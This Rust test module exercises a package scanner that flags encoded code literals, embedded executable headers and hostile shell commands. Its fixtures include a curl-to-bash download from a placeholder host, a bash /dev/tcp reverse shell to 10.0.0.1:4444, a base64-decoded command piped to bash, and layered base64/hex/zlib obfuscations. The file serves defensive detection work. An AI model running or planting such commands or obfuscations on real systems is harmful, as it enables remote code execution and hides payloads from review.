//! Code and programs in encoded literals, and commands in scripts.

use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use gate_core::coverage::{CoverageClass, LostReason};

use super::behaviour::Case;
use super::{build, rules_of, scan};
use crate::python::{MAX_LITERAL_WORK, MIN_LITERAL};

const CODE: &str = "import os, platform\nprint(os.getcwd(), platform.node())\n";

fn base64(data: impl AsRef<[u8]>) -> String {
    STANDARD.encode(data)
}

fn hex(data: &[u8]) -> String {
    data.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

/// The first bytes of an ELF file, and of a PE file.
fn programs() -> [Vec<u8>; 2] {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend(1..=64);
    let mut pe = b"MZ\x90\0".to_vec();
    pe.resize(0x3c, 0);
    pe.extend(*b"\x40\0\0\0PE\0\0\x64\x86");
    pe.extend(1..=64);
    [elf, pe]
}

pub(super) fn fires() -> Vec<Case> {
    let code = "hidden-code-literal";
    let b64 = base64(CODE);
    let (left, right) = b64.split_at(20);
    let (middle, right) = right.split_at(20);
    let escaped: String = b64.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let command = build(&["cu", "rl -s https://host.example/x | ba", "sh"]);
    let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut cases: Vec<Case> = [
        format!("X = '{b64}'"),
        format!("X = b\"{b64}\""),
        format!("f(x=f'{b64}')"),
        format!("X = '{}'", URL_SAFE_NO_PAD.encode(CODE)),
        format!("X = '{}'", reversed(&b64)),
        format!("X = '{}'", hex(CODE.as_bytes())),
        format!("X = '{}'", reversed(&hex(CODE.as_bytes()))),
        format!("X = '{}'", base64(zlib(CODE.as_bytes()))),
        format!("X = '{}'", hex(&gzip(CODE.as_bytes()))),
        format!("X = '{}'", base64(hex(&zlib(base64(CODE).as_bytes())))),
        format!("X = ('{left}'\n  # more\n  '{middle}' '{right}')"),
        format!("X = '{left}' + '{middle}' + \\\n  '{right}'"),
        format!("X = ['{left}', '{middle}', '{right}']"),
        format!("X = ['{left}', '{middle}', '{right}',]"),
        format!("X = '''\n  {left}\n  {middle}\n  {right}\n'''"),
        format!("X = '{left}\\\n{middle}{right}'"),
        format!("X = '{escaped}'"),
        format!("X = '{}'", base64(&command)),
        format!("X = '{}'", base64(wide)),
    ]
    .into_iter()
    .map(|source| (code, "pkg/a.py", source))
    .collect();
    for program in programs() {
        cases.push(("hidden-program-literal", "pkg/a.py", format!("X = '{}'", base64(&program))));
        cases.push(("hidden-program-literal", "pkg/a.py", format!("X = '{}'", base64(zlib(&program)))));
        cases.push(("test-program-literal", "pkg/tests/a.py", format!("X = '{}'", base64(&program))));
    }
    let script = "a-1.data/scripts/a.sh";
    cases.extend([
        ("script-download-execute", script, command.clone()),
        ("development-script-download", "a-1/ci/a.sh", command),
        ("script-reverse-shell", script, build(&["ba", "sh -i >& /dev/", "tcp/10.0.0.1/4444 0>&1"])),
        ("script-encoded-command", script, build(&["echo aWQK | base", "64 -d | ba", "sh"])),
    ]);
    cases
}

pub(super) fn silent() -> Vec<Case> {
    let lib = "pkg/a.py";
    let [elf, _] = programs();
    let fetch = build(&["cu", "rl -s https://host.example/x -o x"]);
    vec![
        ("hidden-code-literal", lib, format!("X = '{}'", base64("It is important that nobody imports this by hand."))),
        (
            "hidden-code-literal",
            lib,
            format!("X = '{}'", base64(br#"{"version": 1, "import": ["os", "sys"], "eval": 3}"#)),
        ),
        ("hidden-code-literal", lib, format!("X = '{}'", "d41d8cd98f00b204e9800998ecf8427e".repeat(2))),
        (
            "hidden-code-literal",
            lib,
            "X = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/'".to_owned(),
        ),
        ("hidden-code-literal", lib, format!("X = {CODE:?}")),
        (
            "hidden-program-literal",
            lib,
            format!("X = '{}'", base64(b"\x7fELF is how such a file begins, and MZ another.")),
        ),
        ("hidden-program-literal", "pkg/tests/a.py", format!("X = '{}'", base64(elf))),
        ("test-program-literal", "pkg/tests/a.py", format!("X = '{}'", base64([0x89; 60]))),
        ("script-download-execute", "a-1.data/scripts/a.sh", fetch.clone()),
        ("development-script-download", "a-1/ci/a.sh", fetch),
        ("script-reverse-shell", "a-1/a.sh", "nc -z localhost 80 && exec \"$@\"".to_owned()),
        ("script-encoded-command", "a-1/a.sh", "base64 -d < a > b".to_owned()),
    ]
}

#[test]
fn a_literal_is_decoded_from_so_many_characters() {
    for (length, expected) in [(MIN_LITERAL - 4, false), (MIN_LITERAL, true), (MIN_LITERAL + 4, true)] {
        let code = format!("import os;{}", "x".repeat(length / 4 * 3 - 10));
        let literal = base64(code);
        assert_eq!(literal.len(), length);
        assert_eq!(
            rules_of("pkg/a.py", &format!("X = '{literal}'")).contains("hidden-code-literal"),
            expected,
            "{length}"
        );
    }
}

#[test]
fn more_to_decode_than_the_limit_is_lost() {
    // Blanks: no code, whatever follows.
    let megabyte = base64(zlib(&vec![0; 1 << 20]));
    let most = MAX_LITERAL_WORK >> 20;
    for (count, expected) in [(most - 1, None), (most, Some(LostReason::Limit)), (most + 1, Some(LostReason::Limit))] {
        let source: String = (0..count).map(|n| format!("x{n} = '{megabyte}'\n")).collect();
        let found = match scan("pkg/a.py", source.as_bytes()).1 {
            CoverageClass::Lost { reason, .. } => Some(reason),
            _ => None,
        };
        assert_eq!(found, expected, "{count}");
    }
}

#[test]
fn what_is_packed_too_often_is_lost() {
    let mut data = CODE.as_bytes().to_vec();
    for _ in 0..9 {
        data = zlib(&data);
    }
    let (_, class) = scan("pkg/a.py", format!("X = '{}'", base64(data)).as_bytes());
    assert!(matches!(class, CoverageClass::Lost { reason: LostReason::Limit, .. }), "{class:?}");
}
